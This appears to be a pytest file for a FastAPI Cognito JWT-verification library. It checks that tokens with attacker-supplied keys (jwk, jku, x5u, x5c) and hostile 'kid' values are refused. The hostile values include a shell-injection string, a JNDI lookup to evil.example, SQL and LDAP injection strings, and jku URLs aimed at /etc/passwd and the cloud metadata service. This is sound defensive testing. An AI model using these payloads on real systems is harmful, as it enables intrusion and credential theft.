"""Attacks on the choice of the key: keys and their addresses in the header, and hostile values of ``kid``."""

import datetime
import json
from base64 import b64encode
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding

from fastapi_cognito_guard import CognitoGuard, UserPool
from tests.apps import NOW, guard_for
from tests.attacks.forge import (
    ATTACKER,
    CLAIMS,
    GOOD,
    HEADER,
    ID_KEY,
    KEY,
    OTHER,
    OTHER_KEY,
    POOL,
    assert_refused,
    drop,
    forge_header,
    forge_token,
    get_refusal_code,
    parametrize_hostile,
)

pytestmark = pytest.mark.anyio


def make_certificate() -> str:
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "evil.example")])
    start = datetime.datetime.fromtimestamp(NOW, datetime.UTC)
    certificate = (
        x509.CertificateBuilder(name, name, ATTACKER.private.public_key(), x509.random_serial_number())
        .not_valid_before(start)
        .not_valid_after(start + datetime.timedelta(days=1))
        .sign(ATTACKER.private, SHA256())
    )
    return b64encode(certificate.public_bytes(Encoding.DER)).decode()


JWK = {**ATTACKER.public_jwk(), "kid": KEY.kid}
EVIL = "https://evil.example/.well-known/jwks.json"
# CVE-2018-0114: the token carries or names the attacker's key, and that key signed it.
EMBEDDED: dict[str, dict[str, Any]] = {
    "CVE-2018-0114 jwk (RFC 7515 4.1.3)": {"jwk": JWK},
    "CVE-2018-0114 JWKS in jwk": {"jwk": {"keys": [JWK]}},
    "CVE-2018-0114 jwks": {"jwks": {"keys": [JWK]}},
    "RFC 8725 3.10 jku": {"jku": EVIL},
    "RFC 8725 3.10 jku of a file": {"jku": "file:///etc/passwd"},
    "RFC 8725 3.10 jku of the instance metadata service": {"jku": "http://169.254.169.254/latest/meta-data/"},
    "RFC 8725 3.10 jku with the pool as userinfo": {
        "jku": f"{POOL.issuer}@evil.example/.well-known/jwks.json",
    },
    "RFC 8725 3.10 x5u": {"x5u": "https://evil.example/chain.pem"},
    "RFC 7515 4.1.6 x5c": {"x5c": [make_certificate()]},
    "RFC 7515 4.1.7 x5t": {"x5t": "AAAA", "x5t#S256": "AAAA"},
    "RFC 7519 5.3 iss in the header": {"iss": "https://evil.example"},
    "all combined": {"jwk": JWK, "jku": EVIL, "x5u": EVIL, "x5c": [make_certificate()]},
}


@parametrize_hostile({
    "signature_invalid": {
        f"{name}, with the pool's kid": forge_header(ATTACKER.sign, **members)
        for name, members in EMBEDDED.items()
    },
    "key_unknown": {
        f"{name}, with the attacker's kid": forge_header(ATTACKER.sign, kid=ATTACKER.kid, **members)
        for name, members in EMBEDDED.items()
    },
    "token_malformed": {
        f"{name}, without a kid": forge_token({**drop(HEADER, "kid"), **members}, sign=ATTACKER.sign)
        for name, members in EMBEDDED.items()
    },
})  # fmt: skip
async def test_a_token_signed_with_a_key_from_its_own_header_is_401(hostile: str, code: str) -> None:
    await assert_refused(hostile, code)


@pytest.mark.parametrize("members", EMBEDDED.values(), ids=EMBEDDED)
async def test_keys_in_the_header_of_a_token_that_the_pool_signed_are_ignored(
    members: dict[str, Any],
) -> None:
    assert (await guard_for(POOL).verify(forge_header(**members))).username == "ada"


async def test_keys_are_fetched_from_the_pools_own_address_only() -> None:
    fetched: set[str] = set()

    async def fetch(address: str) -> bytes:
        fetched.add(address)
        return json.dumps(POOL.jwks).encode()

    guard = CognitoGuard(UserPool(POOL.id, client_ids=POOL.client_id), now=lambda: NOW, fetch=fetch)
    assert (await guard.verify(GOOD)).username == "ada"
    for members in EMBEDDED.values():
        for kid in (KEY.kid, ATTACKER.kid, EVIL, "../../evil"):
            await get_refusal_code(guard, forge_header(ATTACKER.sign, **{**members, "kid": kid}))
    assert fetched == {f"{POOL.issuer}/.well-known/jwks.json"}


KIDS: dict[str, Any] = {
    "path traversal": "../../../../../../dev/null",
    "absolute path": "/proc/sys/kernel/randomize_va_space",
    "Windows path": "..\\..\\..\\windows\\win.ini",
    "URL": EVIL,
    "SQL injection": "x' UNION SELECT 'secret' --",
    "shell command": "|/usr/bin/uname; $(id) `id`",
    "LDAP injection": "*)(uid=*))(|(uid=*",
    "template injection": "${jndi:ldap://evil.example/a}{{7*7}}",
    "JavaScript prototype": "__proto__",
    "Python attribute": "__class__",
    "format string": "%s%n{0.__class__}",
    "trailing NUL": KEY.kid + "\0",
    "trailing space": KEY.kid + " ",
    "leading space": " " + KEY.kid,
    "other case": KEY.kid.swapcase(),
    "last character removed": KEY.kid[:-1],
    "without padding": KEY.kid.rstrip("="),
    "URL-safe alphabet": KEY.kid.replace("+", "-").replace("/", "_"),
    "percent-encoded": KEY.kid.replace("/", "%2F"),
    "JSON list in a string": json.dumps([KEY.kid]),
    "two kids, separated by a comma": f"{KEY.kid},{ID_KEY.kid}",
    "regular expression": ".*",
    "full-width equals sign": KEY.kid.replace("=", "\uff1d"),
    "kid of another pool": OTHER_KEY.kid,
    "index": "0",
    "256 characters": "k" * 256,
}
INVALID_KIDS: list[Any] = [None, "", [], [KEY.kid], [[KEY.kid]], {}, {KEY.kid: 1}, 0, 1, True, 1.5, "k" * 257]
INVALID_KIDS += [KEY.kid * 100]


@parametrize_hostile({
    "key_unknown": {f"kid: {name}": forge_header(kid=kid) for name, kid in KIDS.items()},
    "token_malformed": {
        **{f"RFC 7515 4.1.4 kid: {kid!r:.40}": forge_header(kid=kid) for kid in INVALID_KIDS},
        "RFC 8259 8.2 kid: lone surrogate": forge_header(kid="\ud800"),
        "RFC 7515 4.1.4 no kid": forge_token(drop(HEADER, "kid")),
        "RFC 7515 4.1.4 kid in the payload only": forge_token(
            drop(HEADER, "kid"), {**CLAIMS, "kid": KEY.kid}
        ),
    },
    "signature_invalid": {
        "kid of the pool's other key": forge_header(kid=ID_KEY.kid),
        "kid of the pool, signature of another pool": forge_header(OTHER_KEY.sign),
    },
})  # fmt: skip
async def test_a_token_whose_kid_is_not_of_its_signing_key_is_401(hostile: str, code: str) -> None:
    await assert_refused(hostile, code)


async def test_either_key_of_a_pool_may_sign_either_token_type() -> None:
    """Cognito's key set does not say which key signs ID tokens. Only ``token_use`` tells the types apart."""
    user = await guard_for(POOL).verify(forge_header(ID_KEY.sign, kid=ID_KEY.kid))
    assert (user.username, user.token_use) == ("ada", "access")


# --- two pools in one guard: each may sign only its own tokens


def forge_issuer(pool: Any, kid: str, signer: Any) -> str:
    return forge_token({**HEADER, "kid": kid}, {**CLAIMS, "iss": pool.issuer}, signer.sign)


@parametrize_hostile({
    "key_unknown": {
        "first pool's issuer, second pool's key and kid": forge_issuer(POOL, OTHER_KEY.kid, OTHER_KEY),
        "second pool's issuer, first pool's key and kid": forge_issuer(OTHER, KEY.kid, KEY),
    },
    "signature_invalid": {
        "first pool's issuer and kid, second pool's key": forge_issuer(POOL, KEY.kid, OTHER_KEY),
        "second pool's issuer and kid, first pool's key": forge_issuer(OTHER, OTHER_KEY.kid, KEY),
    },
})  # fmt: skip
async def test_a_token_of_one_pool_signed_with_the_key_of_another_is_401(hostile: str, code: str) -> None:
    guard = CognitoGuard(POOL.user_pool(), OTHER.user_pool(), now=lambda: NOW)
    for _ in range(2):
        assert await get_refusal_code(guard, hostile) == code
        assert (await guard.verify(GOOD)).issuer == POOL.issuer
        assert (await guard.verify(OTHER.access_token())).issuer == OTHER.issuer


async def test_the_same_kid_in_two_pools_is_a_key_of_each() -> None:
    same = {"keys": [{**OTHER_KEY.public_jwk(), "kid": KEY.kid}]}
    guard = CognitoGuard(POOL.user_pool(), OTHER.user_pool(jwks=same), now=lambda: NOW)
    for pool, own, foreign in ((POOL, KEY, OTHER_KEY), (OTHER, OTHER_KEY, KEY)):
        assert (await guard.verify(forge_issuer(pool, KEY.kid, own))).issuer == pool.issuer
        assert await get_refusal_code(guard, forge_issuer(pool, KEY.kid, foreign)) == "signature_invalid"
